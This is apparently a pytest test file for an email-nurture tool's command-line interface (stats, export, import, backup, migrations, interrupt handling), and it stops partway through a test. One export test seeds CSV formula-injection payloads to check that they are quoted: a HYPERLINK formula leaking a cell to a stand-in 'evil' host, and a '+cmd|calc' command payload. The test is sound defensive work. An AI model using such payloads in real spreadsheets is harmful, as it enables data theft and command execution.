"""`python -m core …` against the test database.

Most tests call core.cli.main in this process, as the process would (its environment without any Nurture
variable, no .env, output read from the file descriptors): a real process spends over a second importing
before it starts. Tests about the process itself run `python -m core` for real: Ctrl-C, a closed or broken
standard output, processes migrating at once, what a start imports, the `stats --json` document (an outside
contract), a usage error, and a bad DATABASE_URL that must reach the terminal as one line without its password.
"""

import csv
import json
import logging
import os
import signal
import subprocess
import sys
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import timedelta
from pathlib import Path

import pytest
import sqlalchemy as sa
from alembic import command

from core import claims, db, erasure, repo, switches
from core.cli import main as cli_main
from core.errors import DatabaseTooNew
from core.intake import enroll_now
from core.models import Contact, Send
from core.notion import store as notion_store
from core.settings import Settings
from tests.support import SEED_SIGNUPS, rows, signup_request

ROOT = Path(__file__).resolve().parents[2]
contact_t, send_t = Contact.__table__, Send.__table__
STATS_KEYS = {"contacts", "enrollments", "segments", "sends", "unsubscribed", "suppressed"}
SEND_STATUSES = ["scheduled", "sending", "sent", "failed", "cancelled", "skipped"]


def cli_env(database_url: str, data_dir: Path, **extra: str) -> dict[str, str]:
    """The parent's environment without any Nurture variable, plus the test database."""
    env = {k: v for k, v in os.environ.items() if k.lower() not in Settings.model_fields}
    env.update(DATABASE_URL=database_url, DATA_DIR=str(data_dir), **extra)
    return env


def run_cli(*args: str, database_url: str, data_dir: Path, **extra_env: str) -> subprocess.CompletedProcess:
    env = cli_env(database_url, data_dir, **extra_env)
    return subprocess.run([sys.executable, "-m", "core", *args], cwd=data_dir, env=env, capture_output=True, text=True,
                          timeout=120)


@pytest.fixture
def run_main(monkeypatch, capfd, tmp_path_factory):
    """run_cli's twin, calling core.cli.main in this process; what main changes for its process (environment,
    working folder, logging, engines) is undone after each run."""
    cwd = tmp_path_factory.mktemp("cwd")  # main reads ./.env: here there is none, whatever the repository holds

    def run(*args: str, database_url: str, data_dir: Path, **extra_env: str) -> subprocess.CompletedProcess:
        capfd.readouterr()  # only this run's output
        with monkeypatch.context() as patch, _logging_restored(), _engines_disposed(patch):
            _use_environment(patch, cli_env(database_url, data_dir, **extra_env))
            patch.chdir(cwd)
            code = _exit_code(list(args))
        out, err = capfd.readouterr()
        return subprocess.CompletedProcess([sys.executable, "-m", "core", *args], code, out, err)

    return run


def _exit_code(argv: list[str]) -> int:
    try:
        return cli_main(argv)
    except SystemExit as exc:  # argparse ends a usage error with sys.exit(2), which is then the process's code
        return exc.code


def _use_environment(patch: pytest.MonkeyPatch, env: dict[str, str]) -> None:
    for name in set(os.environ) - set(env):  # every Nurture variable (cli_env left them out)
        patch.delenv(name)
    for name, value in env.items():
        patch.setenv(name, value)


@contextmanager
def _logging_restored() -> Iterator[None]:
    """main's configure_logging rewires the root logger and a few named ones; in this process that would
    last for the rest of the worker's tests (a handler on a closed capture), so they are put back."""
    saved = {logger: _logger_state(logger) for logger in _loggers()}
    try:
        yield
    finally:
        for logger in _loggers():
            handlers, level, filters, propagate, disabled = saved.get(logger, ([], logging.NOTSET, [], True, False))
            logger.handlers[:], logger.filters[:] = handlers, filters
            logger.setLevel(level)
            logger.propagate, logger.disabled = propagate, disabled


def _loggers() -> list[logging.Logger]:
    named = logging.Logger.manager.loggerDict.values()
    return [logging.getLogger(), *(logger for logger in named if isinstance(logger, logging.Logger))]


def _logger_state(logger: logging.Logger) -> tuple:
    return logger.handlers[:], logger.level, logger.filters[:], logger.propagate, logger.disabled


@contextmanager
def _engines_disposed(patch: pytest.MonkeyPatch) -> Iterator[None]:
    """Every engine a run creates is closed after it, as its process's exit would: build_services leaves
    its engine open when preparing the database fails."""
    engines, create = [], db.create_db_engine

    def create_and_keep(*args, **kwargs) -> sa.Engine:
        engines.append(create(*args, **kwargs))
        return engines[-1]

    patch.setattr(db, "create_db_engine", create_and_keep)
    try:
        yield
    finally:
        for engine in engines:
            engine.dispose()


@pytest.fixture
def cli(services, tmp_path, run_main):
    """Run the CLI, in this process, on the same database as `services`."""
    def run(*args: str, **extra_env: str) -> subprocess.CompletedProcess:
        return run_main(*args, database_url=services.settings.database_url, data_dir=tmp_path, **extra_env)

    return run


@pytest.fixture
def cli_process(services, tmp_path):
    """Run `python -m core` as a real process on the same database as `services`."""
    def run(*args: str, **extra_env: str) -> subprocess.CompletedProcess:
        return run_cli(*args, database_url=services.settings.database_url, data_dir=tmp_path, **extra_env)

    return run


def seed_contacts(services) -> list:
    return enroll_now(services, [signup_request(**body) for body, _ in SEED_SIGNUPS])


def test_stats_json_prints_exactly_the_designed_document(cli_process, services, clock):
    critical, urgent, optimize = seed_contacts(services)
    now = clock()
    with db.write_transaction(services.engine) as conn:
        conn.execute(send_t.update().where(send_t.c.enrollment_id == critical.enrollment_id, send_t.c.step == 1)
                     .values(status="sent", sent_at=now, finished_at=now))
        conn.execute(send_t.update().where(send_t.c.enrollment_id == critical.enrollment_id, send_t.c.step == 2)
                     .values(status="failed", last_error="422 invalid address", finished_at=now))
        conn.execute(contact_t.update().where(contact_t.c.id == urgent.contact_id).values(unsubscribed_at=now))
        # Unsubscribed and then bounced: counted once, as suppressed.
        conn.execute(contact_t.update().where(contact_t.c.id == optimize.contact_id)
                     .values(unsubscribed_at=now, suppressed_at=now, suppressed_reason="bounce"))

    result = cli_process("stats", "--json")

    assert result.returncode == 0, result.stderr
    data = json.loads(result.stdout)
    assert set(data) == STATS_KEYS
    assert list(data["sends"]) == SEND_STATUSES
    assert data == {
        "contacts": 3, "enrollments": 3, "segments": {"CRITICAL": 1, "URGENT": 1, "OPTIMIZE": 1},
        "sends": {"scheduled": 19, "sending": 0, "sent": 1, "failed": 1, "cancelled": 0, "skipped": 0},
        "unsubscribed": 1, "suppressed": 1,
    }


@pytest.mark.parametrize("backend", ["sqlite"])
def test_stats_loads_neither_the_notion_client_nor_the_csv_import(services, tmp_path):
    # What every command's start no longer pays for: the Notion client and importer (the `notion` commands
    # alone), the CSV import (`import` alone).
    result = subprocess.run([sys.executable, "-X", "importtime", "-m", "core", "stats", "--json"], cwd=tmp_path,
                            env=cli_env(services.settings.database_url, tmp_path), capture_output=True, text=True,
                            timeout=120)
    assert result.returncode == 0 and json.loads(result.stdout)["contacts"] == 0, result.stderr
    loaded = {line.rsplit("|", 1)[1].strip() for line in result.stderr.splitlines() if line.startswith("import time:")}
    assert {"core.cli", "core.db", "sqlalchemy"} <= loaded, "importtime's list is not the one expected"
    assert {m for m in loaded if m.split(".")[0] in {"notion_client", "httpx"}} == set()
    assert loaded & {"core.csv_import", "core.notion.client", "core.notion.importer"} == set()


def test_a_database_server_that_does_not_answer_is_named_as_unreachable_not_as_refusing(tmp_path, run_main):
    # Port 1: nothing listens there, so the connection is refused before any server could answer.
    result = run_main("stats", "--json", database_url="postgresql+psycopg://postgres@127.0.0.1:1/nurture",
                      data_dir=tmp_path)

    assert_one_line_error(result, 1, "nurture: cannot use the database:")
    assert "refused the command" not in result.stderr


@pytest.mark.parametrize("backend", ["sqlite"])
def test_stats_on_a_brand_new_database_reports_zero_everywhere(database_url, tmp_path, run_main):
    db.missing_sqlite_file(database_url).touch()  # created empty, as `createdb` makes an empty PostgreSQL one
    result = run_main("stats", "--json", database_url=database_url, data_dir=tmp_path)
    assert result.returncode == 0, result.stderr
    assert json.loads(result.stdout) == {
        "contacts": 0, "enrollments": 0, "segments": {"CRITICAL": 0, "URGENT": 0, "OPTIMIZE": 0},
        "sends": dict.fromkeys(SEND_STATUSES, 0), "unsubscribed": 0, "suppressed": 0,
    }


@pytest.mark.parametrize("backend", ["sqlite"])
def test_pause_and_resume_flip_the_sending_switch_and_leave_an_audit_trail(cli, services):
    paused = cli("pause", "--reason", "checking the copy")
    with db.read_transaction(services.engine) as conn:
        after_pause = switches.read(conn)
    resumed = cli("resume")
    with db.read_transaction(services.engine) as conn:
        after_resume = switches.read(conn)

    assert paused.returncode == resumed.returncode == 0, paused.stderr + resumed.stderr
    assert after_pause.paused is True and after_pause.pause_reason == "checking the copy"
    assert after_resume.paused is False
    events = rows(services.engine, "SELECT kind, actor, detail FROM event "
                                   "WHERE kind IN ('sending_paused', 'sending_resumed') ORDER BY id")
    assert [(e["kind"], e["actor"]) for e in events] == [("sending_paused", "cli"), ("sending_resumed", "cli")]
    assert "checking the copy" in events[0]["detail"]


@pytest.mark.parametrize("backend", ["sqlite"])
def test_export_writes_a_csv_with_one_row_per_contact_and_every_step(cli, services, tmp_path):
    critical, _, _ = seed_contacts(services)
    enroll_now(services, [signup_request(email="zoe@example.com", first_name="Zoë", business_name="渡辺 さくら")])
    now = services.clock()
    with db.write_transaction(services.engine) as conn:
        conn.execute(send_t.update().where(send_t.c.enrollment_id == critical.enrollment_id, send_t.c.step == 1)
                     .values(status="sent", sent_at=now, finished_at=now))
    target = tmp_path / "contacts.csv"

    result = cli("export", "--output", str(target))

    assert result.returncode == 0, result.stderr
    with open(target, newline="", encoding="utf-8") as fh:
        reader = csv.DictReader(fh)
        header, exported = reader.fieldnames, list(reader)
    steps = [f"step_{n}" for n in range(1, 8)]
    assert {"email", "first_name", "business_name", "segment", *steps} <= set(header)
    assert [c for c in header if c.startswith("step_")] == steps
    expected = [body["email"] for body, _ in SEED_SIGNUPS] + ["zoe@example.com"]
    assert sorted(r["email"] for r in exported) == sorted(expected)
    by_email = {r["email"]: r for r in exported}
    first = by_email["critical@example.com"]
    assert first["segment"] == "CRITICAL" and first["first_name"] == "Casey"
    assert [first[f"step_{n}"] for n in range(1, 8)] == ["sent"] + ["scheduled"] * 6
    assert by_email["optimize@example.com"]["segment"] == "OPTIMIZE"
    assert (by_email["zoe@example.com"]["first_name"], by_email["zoe@example.com"]["business_name"]) == (
        "Zoë", "渡辺 さくら")


@pytest.mark.parametrize("backend", ["sqlite"])
def test_export_quotes_signup_text_a_spreadsheet_would_run_as_a_formula(cli, services, tmp_path):
    formula = '=HYPERLINK("http://evil/?x="&A1,"click")'
    enroll_now(services, [signup_request(email="=1+2@example.com", first_name=formula, business_name="@SUM(A1:A2)"),
                          signup_request(email="plain@example.com", first_name="-2+3", business_name="+cmd|calc")])
    target = tmp_path / "contacts.csv"

    result = cli("export", "-o", str(target))

    assert result.returncode == 0, result.stderr
    with open(target, newline="", encoding="utf-8") as fh:
        cells = {r["email"]: (r["first_name"], r["business_name"], r["segment"]) for r in csv.DictReader(fh)}
    assert cells == {
        "'=1+2@example.com": ("'" + formula, "'@SUM(A1:A2)", "OPTIMIZE"),
        "plain@example.com": ("'-2+3", "'+cmd|calc", "OPTIMIZE"),
    }



def assert_one_line_error(result: subprocess.CompletedProcess, code: int, *words: str) -> None:
    assert result.returncode == code, result.stderr
    assert "Traceback" not in result.stderr
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and all(w in lines[0] for w in words), result.stderr


@pytest.mark.parametrize("backend", ["sqlite"])
@pytest.mark.parametrize("suffix", ["", "-wal", "-shm", "-journal"])
def test_export_refuses_to_write_over_the_database_and_its_journal_files(cli, services, tmp_path, suffix):
    seed_contacts(services)
    database = tmp_path / "nurture.db"
    spelt_oddly = f"{tmp_path}/backups/../nurture.db{suffix}"

    result = cli("export", "-o", spelt_oddly)

    assert_one_line_error(result, 2, "refusing to write", spelt_oddly, "database")
    assert json.loads(cli("stats", "--json").stdout)["contacts"] == 3
    assert database.read_bytes().startswith(b"SQLite format 3")


@pytest.mark.parametrize("backend", ["sqlite"])
def test_export_refuses_to_write_over_the_generated_secret_key(cli, services, tmp_path):
    # Written over, the key would become the CSV's text: every unsubscribe link already sent would stop working.
    assert cli("stats").returncode == 0  # generates DATA_DIR/secret_key
    key_file = tmp_path / "secret_key"
    key = key_file.read_text()

    result = cli("export", "-o", str(key_file))

    assert_one_line_error(result, 2, "refusing to write", str(key_file), "secret key")
    assert key_file.read_text() == key


@pytest.mark.parametrize("backend", ["sqlite"])
def test_export_through_a_link_to_the_database_is_refused_too(cli, services, tmp_path):
    (tmp_path / "contacts.csv").symlink_to(tmp_path / "nurture.db")
    assert_one_line_error(cli("export", "-o", str(tmp_path / "contacts.csv")), 2, "database")


@pytest.mark.parametrize("backend", ["sqlite"])
@pytest.mark.parametrize(("output", "reason"), [
    (".", "Is a directory"),
    ("no-such-folder/contacts.csv", "there is no folder no-such-folder"),
    ("/proc/contacts.csv", "No such file or directory"),
    ("/dev/full", "No space left on device"),
])
def test_export_to_a_path_it_cannot_write_says_so_in_one_line(cli, services, tmp_path, output, reason):
    result = cli("export", "-o", output)
    assert_one_line_error(result, 1, f"cannot write {output}", reason)


@pytest.mark.parametrize("backend", ["sqlite"])
def test_export_with_an_empty_output_name_is_a_usage_error(cli_process, services):
    result = cli_process("export", "-o", "")
    assert result.returncode == 2 and result.stdout == ""
    assert "needs a file name" in result.stderr and "Traceback" not in result.stderr


@pytest.mark.parametrize("backend", ["sqlite"])
def test_backup_with_an_empty_output_folder_is_a_usage_error_and_writes_nothing(cli, services, tmp_path):
    # `--output-dir "$BACKUPS"` with the variable unset went quietly to the default folder instead.
    result = cli("backup", "--output-dir", "")
    assert result.returncode == 2 and "needs a folder name" in result.stderr and "Traceback" not in result.stderr
    assert not (tmp_path / "backups").exists()


@pytest.mark.parametrize("backend", ["sqlite"])
def test_export_into_a_pipe_whose_reader_left_stops_quietly(services, tmp_path):
    seed_contacts(services)
    env = cli_env(services.settings.database_url, tmp_path)
    export = subprocess.Popen([sys.executable, "-m", "core", "export"], cwd=tmp_path, env=env,
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    export.stdout.close()  # like `| head -1` exiting before the export writes
    _, stderr = export.communicate(timeout=120)
    assert export.returncode == 1
    assert stderr == b""



@pytest.mark.parametrize("backend", ["sqlite"])
@pytest.mark.parametrize("command", [["stats"], ["export"], ["pause"]])
def test_a_command_started_with_standard_output_closed_does_nothing_and_says_so(services, tmp_path, command):
    # `>&-` in a cron line: Python's sys.stdout is then None; each command acted, then ended in a traceback.
    env = cli_env(services.settings.database_url, tmp_path)
    result = subprocess.run([sys.executable, "-m", "core", *command], cwd=tmp_path, env=env, stdout=subprocess.DEVNULL,
                            stderr=subprocess.PIPE, text=True, timeout=120, preexec_fn=lambda: os.close(1))
    assert result.returncode == 1 and _one_line(result).startswith("nurture: standard output is closed")
    with db.read_transaction(services.engine) as conn:
        assert not switches.read(conn).paused


@pytest.mark.parametrize("backend", ["sqlite"])
def test_backup_into_a_folder_it_cannot_use_says_so_in_one_line(cli, services, tmp_path):
    (tmp_path / "a-file").write_text("")
    assert_one_line_error(cli("backup", "--output-dir", str(tmp_path / "a-file")), 1, "not a folder")
    assert_one_line_error(cli("backup", "--output-dir", "/proc/backups"), 1, "cannot write /proc/backups")
    done = cli("backup", "--output-dir", str(tmp_path / "backups"))
    assert done.returncode == 0 and [p.suffix for p in (tmp_path / "backups").iterdir()] == [".db"]


def _revision(database_url: str) -> str:
    engine = db.create_db_engine(database_url)
    try:
        with engine.connect() as conn:
            return conn.execute(sa.text("SELECT version_num FROM alembic_version")).scalar_one()
    finally:
        engine.dispose()


def test_a_backup_before_an_upgrade_copies_the_database_as_the_old_release_left_it(database_url, tmp_path, run_main):
    command.upgrade(db.alembic_config(database_url), "0004")  # a database an older release made

    result = run_main("backup", "--output-dir", str(tmp_path / "backups"), database_url=database_url,
                      data_dir=tmp_path)

    assert result.returncode == 0, result.stderr
    assert _revision(database_url) == "0004", "backing up must not migrate the database it copies"
    if database_url.startswith("sqlite"):
        [copy] = (tmp_path / "backups").iterdir()
        assert _revision(f"sqlite:///{copy}") == "0004"
    else:
        assert "pg_dump" in result.stdout


def test_backup_of_an_in_memory_database_is_refused_without_a_traceback(tmp_path, run_main):
    result = run_main("backup", database_url="sqlite://", data_dir=tmp_path)
    assert_one_line_error(result, 2, "DATABASE_URL")



@pytest.mark.parametrize("backend", ["sqlite"])
@pytest.mark.parametrize(("content", "reason"), [
    ("email,first_name\nzoe@example.com,Zoë\n".encode("latin-1"), "not UTF-8 text"),
    ("email,first_name\nzoe@example.com,Zoë\n".encode("utf-16"), "not UTF-8 text"),
    (b"email,first_name\nbig@example.com," + b"x" * 140_000 + b"\n", "line 2: not readable as CSV"),
])
def test_import_of_a_file_it_cannot_read_says_why_in_one_line(cli, services, tmp_path, content, reason):
    (tmp_path / "list.csv").write_bytes(content)
    assert_one_line_error(cli("import", str(tmp_path / "list.csv")), 1, str(tmp_path / "list.csv"), reason)


@pytest.mark.parametrize("backend", ["sqlite"])
def test_import_exits_1_when_no_row_can_be_imported(cli, services, tmp_path):
    (tmp_path / "list.csv").write_text("email,red_systems\nnot-an-email,1\nann@example.com,²\n", encoding="utf-8")
    result = cli("import", str(tmp_path / "list.csv"), "--apply")
    assert result.returncode == 1, result.stderr
    assert "line 3: rejected: red_systems" in result.stdout and "Traceback" not in result.stderr
    assert "0 new, 0 already known, 0 refused as erased, 2 rejected" in result.stdout



@pytest.mark.parametrize("backend", ["sqlite"])
@pytest.mark.parametrize("command", ["send-test", "forget"])
@pytest.mark.parametrize("address", ["not-an-email", ""])
def test_an_invalid_address_is_a_usage_error_and_nothing_is_queued_or_erased(cli, services, command, address):
    seed_contacts(services)
    result = cli(command, address, *(["--wait", "0"] if command == "send-test" else []))
    assert result.returncode == 2, result.stdout + result.stderr
    assert "not a valid email address" in result.stderr and "Traceback" not in result.stderr
    assert rows(services.engine, "SELECT kind FROM action") == []
    assert rows(services.engine, "SELECT kind FROM event WHERE kind IN ('requested_send_test', 'contact_erased')") == []


def test_a_pause_reason_that_is_not_utf8_text_is_a_usage_error_and_nothing_is_paused(cli, services):
    # A reason typed in a Latin-1 terminal (or pasted bytes) reaches Python as "\udcff": no database stores it.
    result = cli("pause", "--reason", "caf\udce9 closed")

    assert result.returncode == 2 and "--reason" in result.stderr, result.stderr
    assert "Traceback" not in result.stderr
    with db.read_transaction(services.engine) as conn:
        assert switches.read(conn).paused is False


@pytest.mark.parametrize("backend", ["sqlite"])
@pytest.mark.parametrize("wait", ["-1", "nan", "inf", "soon"])
def test_send_test_refuses_a_wait_that_is_not_a_number_of_seconds_before_queueing(cli, services, wait):
    result = cli("send-test", "pat@example.com", "--wait", wait)
    assert result.returncode == 2 and "--wait: must be a number of seconds" in result.stderr, result.stderr
    assert rows(services.engine, "SELECT kind FROM action") == []


@pytest.mark.parametrize("backend", ["sqlite"])
def test_ctrl_c_while_send_test_waits_for_the_worker_ends_in_one_line_and_leaves_the_email_queued(services, tmp_path):
    # send-test waits 30 s by default for a worker, and Ctrl-C is the natural way out of that wait.
    env = cli_env(services.settings.database_url, tmp_path)
    waiting = subprocess.Popen([sys.executable, "-m", "core", "send-test", "pat@example.com", "--wait", "120"],
                               cwd=tmp_path, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        assert "waiting for the worker" in waiting.stdout.readline()
        waiting.send_signal(signal.SIGINT)
        _, stderr = waiting.communicate(timeout=60)
    finally:
        if waiting.poll() is None:
            waiting.kill()
    assert waiting.returncode == 130, stderr
    assert "Traceback" not in stderr and len(stderr.strip().splitlines()) == 1, stderr
    assert stderr.startswith("nurture: interrupted") and "stays queued" in stderr
    assert rows(services.engine, "SELECT kind FROM action") == [{"kind": "send_test"}]


@pytest.mark.parametrize("backend", ["sqlite"])
def test_ctrl_c_landing_while_send_test_hands_its_connection_back_still_ends_in_one_line(cli, services):
    # The moment the test above once hit under load, made certain: the interrupt arrives while a look at the
    # request gives its connection back to the pool, where SQLAlchemy logs a traceback before passing it on.
    looked_at_the_request = []

    def note_the_look(_conn, _cursor, statement, *_args) -> None:
        if "FROM action" in statement and "SELECT" in statement:
            looked_at_the_request.append(statement)

    def ctrl_c_while_handing_back(*_args) -> None:
        if len(looked_at_the_request) == 1:
            looked_at_the_request.append("interrupted")
            signal.raise_signal(signal.SIGINT)

    sa.event.listen(sa.engine.Engine, "before_cursor_execute", note_the_look)
    sa.event.listen(sa.pool.Pool, "reset", ctrl_c_while_handing_back)
    try:
        result = cli("send-test", "pat@example.com", "--wait", "30")
    finally:
        sa.event.remove(sa.pool.Pool, "reset", ctrl_c_while_handing_back)
        sa.event.remove(sa.engine.Engine, "before_cursor_execute", note_the_look)

    assert "interrupted" in looked_at_the_request
    assert result.returncode == 130, result.stderr
    assert "Traceback" not in result.stderr and len(result.stderr.strip().splitlines()) == 1, result.stderr
    assert rows(services.engine, "SELECT kind, status FROM action") == [{"kind": "send_test", "status": "pending"}]


@pytest.mark.parametrize("backend", ["sqlite"])
def test_ctrl_c_landing_while_any_command_hands_a_connection_back_ends_in_one_line(cli, services):
    # Where a command does not hold Ctrl-C back (send-test's wait does), SQLAlchemy logs the interrupt with a
    # traceback as it passes it on; the command's own one line is all the person should read.
    interrupted = []

    def ctrl_c_while_handing_back(*_args) -> None:
        if not interrupted:
            interrupted.append(True)
            signal.raise_signal(signal.SIGINT)

    sa.event.listen(sa.pool.Pool, "reset", ctrl_c_while_handing_back)
    try:
        result = cli("stats")
    finally:
        sa.event.remove(sa.pool.Pool, "reset", ctrl_c_while_handing_back)

    assert interrupted and result.returncode == 130, result.stderr
    assert result.stderr.strip() == "nurture: interrupted", result.stderr


def test_processes_migrating_a_new_database_at_once_all_succeed(database_url, tmp_path):
    # The worker and the dashboard both migrate at start-up, and systemd starts them together.
    env = cli_env(database_url, tmp_path)
    procs = [subprocess.Popen([sys.executable, "-m", "core", "db", "upgrade"], cwd=tmp_path, env=env, text=True,
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE) for _ in range(4)]
    results = [(proc.wait(timeout=120), *proc.communicate()) for proc in procs]
    assert [code for code, _, _ in results] == [0] * 4, [err for _, _, err in results]


def test_db_upgrade_on_an_empty_database_is_idempotent(database_url, tmp_path, run_main):
    first = run_main("db", "upgrade", database_url=database_url, data_dir=tmp_path)
    second = run_main("db", "upgrade", database_url=database_url, data_dir=tmp_path)
    assert first.returncode == second.returncode == 0, first.stderr + second.stderr
    assert first.stdout == second.stdout
    engine = db.create_db_engine(database_url)
    try:
        with engine.connect() as conn:
            versions = conn.execute(sa.text("SELECT version_num FROM alembic_version")).scalars().all()
            tables = set(sa.inspect(conn).get_table_names())
    finally:
        engine.dispose()
    assert len(versions) == 1 and versions[0] in first.stdout
    assert {"contact", "signup", "enrollment", "send", "event", "setting"} <= tables


def _hold_the_write_lock(engine: sa.Engine) -> sa.Connection:
    """Another process's long write: on SQLite the database's write lock, on PostgreSQL locks that
    let plain SELECTs through but stop every insert into the tables a start-up could seed."""
    conn = engine.connect().execution_options(write=True)  # on SQLite: BEGIN IMMEDIATE (core.db)
    conn.begin()
    if engine.dialect.name == "postgresql":
        conn.exec_driver_sql("LOCK TABLE alembic_version, setting IN EXCLUSIVE MODE")
    return conn


def test_commands_on_an_up_to_date_database_only_read_it(cli, services):
    """`stats` answers while another writer holds the lock: start-up takes no write lock when
    there is nothing to migrate or seed (before, it queued for the lock, up to 30 s, then failed)."""
    seed_contacts(services)
    held = _hold_the_write_lock(services.engine)
    try:
        result = cli("stats", "--json")
    finally:
        held.rollback()
        held.close()
    assert result.returncode == 0, result.stderr
    assert json.loads(result.stdout)["enrollments"] == 3


@pytest.mark.parametrize("backend", ["postgres"])
def test_stats_and_export_work_for_a_read_only_postgresql_session(services, tmp_path, run_main):
    seed_contacts(services)
    read_only = services.settings.database_url + "?options=-c%20default_transaction_read_only%3Don"
    stats = run_main("stats", "--json", database_url=read_only, data_dir=tmp_path)
    export = run_main("export", "-o", str(tmp_path / "contacts.csv"), database_url=read_only, data_dir=tmp_path)
    assert stats.returncode == 0, stats.stderr
    assert json.loads(stats.stdout)["contacts"] == 3
    assert export.returncode == 0, export.stderr
    with (tmp_path / "contacts.csv").open(encoding="utf-8") as exported:
        assert len(list(csv.DictReader(exported))) == 3
    paused = run_main("pause", database_url=read_only, data_dir=tmp_path)  # a write still fails plainly
    assert paused.returncode == 1 and "read-only transaction" in paused.stderr and "Traceback" not in paused.stderr


def test_a_fresh_database_is_still_migrated_and_seeded_by_any_command(database_url, tmp_path, run_main):
    if missing := db.missing_sqlite_file(database_url):
        missing.touch()  # an empty SQLite file, as an empty PostgreSQL database is
    result = run_main("stats", "--json", database_url=database_url, data_dir=tmp_path)
    assert result.returncode == 0, result.stderr
    engine = db.create_db_engine(database_url)
    try:
        with engine.connect() as conn:
            assert switches.is_seeded(conn)
        assert db.upgrade(engine) is False  # at the latest revision already: nothing to do
    finally:
        engine.dispose()


@pytest.mark.parametrize("command", [["pause", "--reason", "emergency"], ["stats", "--json"], ["export"],
                                     ["resume"], ["forget", "jo@example.com"]], ids=lambda c: c[0])
def test_a_command_given_where_there_is_no_database_creates_none_and_says_so(tmp_path, command, run_main):
    """Typed in the wrong folder, `pause` must not pause a new empty database and report success."""
    elsewhere = tmp_path / "elsewhere"
    result = run_main(*command, database_url=f"sqlite:///{elsewhere}/data/nurture.db", data_dir=elsewhere / "data")
    assert result.returncode == 2 and result.stdout == ""
    [line] = result.stderr.strip().splitlines()
    assert line.startswith(f"nurture: no database at {elsewhere}/data/nurture.db.") and "db upgrade" in line
    assert not elsewhere.exists(), "nothing was created: no database, no data folder, no key file"


def test_db_upgrade_creates_a_database_where_there_is_none(tmp_path, run_main):
    url = f"sqlite:///{tmp_path}/new/nurture.db"
    assert run_main("db", "upgrade", database_url=url, data_dir=tmp_path / "new").returncode == 0
    assert run_main("pause", database_url=url, data_dir=tmp_path / "new").returncode == 0


def test_a_bad_database_url_exits_2_with_one_line_naming_it_and_no_traceback(tmp_path):
    result = run_cli("stats", "--json", database_url="mysql://admin:hunter2@db.example.com/nurture", data_dir=tmp_path)
    assert result.returncode == 2
    assert result.stdout == ""
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1, result.stderr
    assert "DATABASE_URL" in lines[0]
    assert "Traceback" not in result.stderr
    assert "hunter2" not in result.stderr


def test_a_database_migrated_by_a_newer_release_exits_2_with_one_line_naming_the_revision(cli, services):
    with db.write_transaction(services.engine) as conn:
        conn.execute(sa.text("UPDATE alembic_version SET version_num = '9999'"))
    with pytest.raises(DatabaseTooNew, match="'9999'"):
        db.upgrade(services.engine)
    result = cli("stats")
    assert result.returncode == 2
    assert result.stderr.strip().splitlines() == [
        "nurture: The database at DATABASE_URL was migrated by a newer version of Nurture "
        "(revision '9999' is unknown to this one), so run that version or newer, or restore a backup from before "
        "the upgrade."]


def test_a_database_holding_another_applications_tables_is_refused_and_left_as_it_was(database_url, tmp_path, run_main):
    # A DATABASE_URL pointing at the wrong database: `stats` must not install Nurture's tables in it.
    engine = db.create_db_engine(database_url)
    try:
        with db.write_transaction(engine) as conn:
            conn.execute(sa.text("CREATE TABLE invoices (id INTEGER PRIMARY KEY, total NUMERIC)"))
        for command_line in (["stats"], ["db", "upgrade"]):
            result = run_main(*command_line, database_url=database_url, data_dir=tmp_path)
            assert result.returncode == 2 and "invoices" in _one_line(result)
        with engine.connect() as conn:
            assert sa.inspect(conn).get_table_names() == ["invoices"]
    finally:
        engine.dispose()


def _one_line(result: subprocess.CompletedProcess) -> str:
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and "Traceback" not in result.stderr, result.stderr
    return lines[0]


def test_a_data_dir_that_is_a_file_exits_2_with_one_line_naming_it(tmp_path, run_main):
    (tmp_path / "data").write_text("")
    result = run_main("db", "upgrade", database_url=f"sqlite:///{tmp_path}/nurture.db", data_dir=tmp_path / "data")
    assert result.returncode == 2
    assert _one_line(result) == f"nurture: DATA_DIR {tmp_path / 'data'} is a file, not a folder."


def test_a_sqlite_folder_that_is_a_file_exits_2_with_one_line_naming_database_url(tmp_path, run_main):
    (tmp_path / "data").write_text("")
    result = run_main("db", "upgrade", database_url=f"sqlite:///{tmp_path}/data/nurture.db", data_dir=tmp_path,
                      SECRET_KEY="k" * 32)
    assert result.returncode == 2
    assert _one_line(result).startswith(f"nurture: DATABASE_URL names a SQLite file in {tmp_path / 'data'}")


def test_a_sqlite_file_that_cannot_be_created_exits_2_with_one_line_naming_database_url_and_the_file(
        tmp_path, run_main):
    # A folder this user may not write to (the service user's data/ owned by root, say); as root, /proc.
    folder = Path("/proc") if os.geteuid() == 0 else tmp_path / "read-only"
    folder.mkdir(mode=0o500, exist_ok=True)
    result = run_main("db", "upgrade", database_url=f"sqlite:///{folder}/nurture.db", data_dir=tmp_path,
                      SECRET_KEY="k" * 32)
    assert result.returncode == 2
    assert _one_line(result).startswith(f"nurture: DATABASE_URL names the SQLite file {folder / 'nurture.db'}, "
                                        "which cannot be opened")


@pytest.mark.parametrize("secret_key", [{}, {"SECRET_KEY": "k" * 32}])
def test_a_data_folder_linked_to_a_volume_not_mounted_is_named_as_such(tmp_path, secret_key, run_main):
    # data -> /mnt/volume/nurture before the volume is mounted: "is a file, not a folder" sent people astray.
    (tmp_path / "data").symlink_to(tmp_path / "volume" / "nurture")
    result = run_main("db", "upgrade", database_url=f"sqlite:///{tmp_path}/data/nurture.db", data_dir=tmp_path / "data",
                      **secret_key)
    assert result.returncode == 2
    assert f"is a link to {tmp_path / 'volume' / 'nurture'}, which does not exist" in _one_line(result)


@pytest.mark.parametrize("backend", ["sqlite"])  # PostgreSQL backups are pg_dump's job
def test_a_backup_folder_that_cannot_be_made_exits_1_with_one_line(database_url, tmp_path, run_main):
    (tmp_path / "file").write_text("")
    db.missing_sqlite_file(database_url).touch()
    result = run_main("backup", "--output-dir", str(tmp_path / "file" / "backups"), database_url=database_url,
                      data_dir=tmp_path)
    assert result.returncode == 1
    assert _one_line(result).startswith(f"nurture: cannot write {tmp_path / 'file' / 'backups'}: ")


def test_forget_says_what_becomes_of_the_persons_notion_row(cli, services):
    for email in ("linked@example.com", "unlinked@example.com"):
        enroll_now(services, [signup_request(email=email)])
    with db.write_transaction(services.engine) as conn:
        [linked] = repo.contact_ids_by_email(conn, ["linked@example.com"]).values()
